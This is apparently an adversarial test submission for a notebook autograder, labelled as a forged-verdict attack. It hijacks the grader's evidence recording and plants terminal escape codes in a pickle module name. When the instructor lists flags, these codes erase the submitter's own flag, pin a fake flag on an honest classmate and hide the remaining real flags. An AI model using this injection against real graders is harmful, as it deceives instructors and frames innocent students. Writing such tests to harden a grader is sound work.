# Attack (forged verdicts): draws nothing, and makes the instructor's flag list lie.
# Flags hold text taken from the evidence as it is: a refused pickle is reported with the module
# name it asked for, and that name can be any string. This one asks for a "module" made of terminal
# control codes and lines of its own: in the instructor's terminal, `python -m autograde flags`
# erases this submission's own line, prints a made-up flag against an honest classmate, and then
# conceals (ESC[8m) everything after it: every real flag of the students listed later disappears.
import base64
import struct

import heatmap_check
from IPython.display import display


def _text(value):
    data = value.encode()
    return b"\x8d" + struct.pack("<Q", len(data)) + data  # BINUNICODE8


_MODULE = ("\r\x1b[2K"  # back to the start of this line, erase it
           "zz_honest\tthe read-only cell 'title' was edited (nbgrader restored it)\n"
           "\x1b[8m")  # conceal: nothing printed after this is visible
_PICKLE = base64.b64encode(b"\x80\x04" + _text(_MODULE) + _text("x") + b"\x93.").decode()


def _record(function, calls):
    for call in calls:  # every call's evidence comes back (the same refused pickle: one flag)
        display({heatmap_check.EVIDENCE_MIME: {"call": call["name"], "status": "returned", "returned": "axes",
                                               "exception": None, "pickle": _PICKLE, "png": None}}, raw=True)


heatmap_check.record_evidence = _record


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
